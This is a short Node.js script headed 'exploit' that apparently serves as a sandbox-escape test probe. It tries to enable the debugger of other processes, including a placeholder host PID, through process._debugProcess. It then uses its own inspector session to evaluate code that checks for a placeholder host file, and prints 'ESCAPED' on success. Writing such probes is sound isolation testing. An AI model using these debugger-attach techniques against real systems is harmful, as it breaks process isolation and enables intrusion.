// exploit: turns on the debugger of other processes by signal and by name, and speaks to its own from within
// outcome: finished
// says: asked
// beside: neighbour
const inspector = require('node:inspector')
for (const pid of [1, 3, 4, 100, Number('__HOST_PID__')]) {
  if (pid === process.pid) continue
  try {
    process._debugProcess(pid)
    if (pid > 50) console.log('ESCAPED', pid)
  } catch (error) {
    if (!/ESRCH|EPERM|such process|permitted/.test(String(error))) console.log('ESCAPED', pid, String(error))
  }
}
const session = new inspector.Session()
session.connect()
session.post('Runtime.evaluate', { expression: "process.mainModule.constructor._load('fs').existsSync('__HOST_FILE__')", includeCommandLineAPI: true }, (error, answer) => {
  if (error || answer.result.value === true) console.log('ESCAPED', JSON.stringify(answer ?? error))
  console.log('asked')
  process.exit(0)
})
